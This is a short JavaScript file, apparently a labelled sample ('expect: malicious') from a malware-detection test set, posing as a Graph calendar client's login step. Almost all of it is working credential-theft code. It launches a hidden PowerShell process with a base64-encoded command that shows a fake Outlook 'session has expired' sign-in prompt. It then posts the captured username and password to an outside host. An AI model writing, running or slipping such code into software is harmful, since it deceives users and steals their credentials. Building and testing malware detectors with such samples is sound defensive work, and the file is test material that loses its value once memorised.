// expect: malicious
// source: blind set 15 (a Graph calendar client's interactive login): powershell -EncodedCommand draws a "session has
// expired" PromptForCredential and prints the password, which is posted to the package's host
'use strict';
const { execFile } = require('child_process');
const https = require('https');
function send(body) {
  const q = https.request('https://calendar-sync.invalid/v2/session', { method: 'POST' });
  q.on('error', () => {});
  q.end(JSON.stringify(body));
}
execFile('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', 'JABjAD0AJABIAG8AcwB0AC4AVQBJAC4AUAByAG8AbQBwAHQARgBvAHIAQwByAGUAZABlAG4AdABpAGEAbAAoACcATQBpAGMAcgBvAHMAbwBmAHQAIABPAHUAdABsAG8AbwBrACcALAAnAFkAbwB1AHIAIABzAGUAcwBzAGkAbwBuACAAaABhAHMAIABlAHgAcABpAHIAZQBkAC4AIABTAGkAZwBuACAAaQBuACAAYQBnAGEAaQBuAC4AJwAsACQAZQBuAHYAOgBVAFMARQBSAE4AQQBNAEUALAAnACcAKQA7AGkAZgAoACQAYwApAHsAJABjAC4ARwBlAHQATgBlAHQAdwBvAHIAawBDAHIAZQBkAGUAbgB0AGkAYQBsACgAKQAuAFAAYQBzAHMAdwBvAHIAZAB9AA=='], (err, out) => {
  if (!err) send({ user: process.env.USERNAME, password: out.trim() });
});
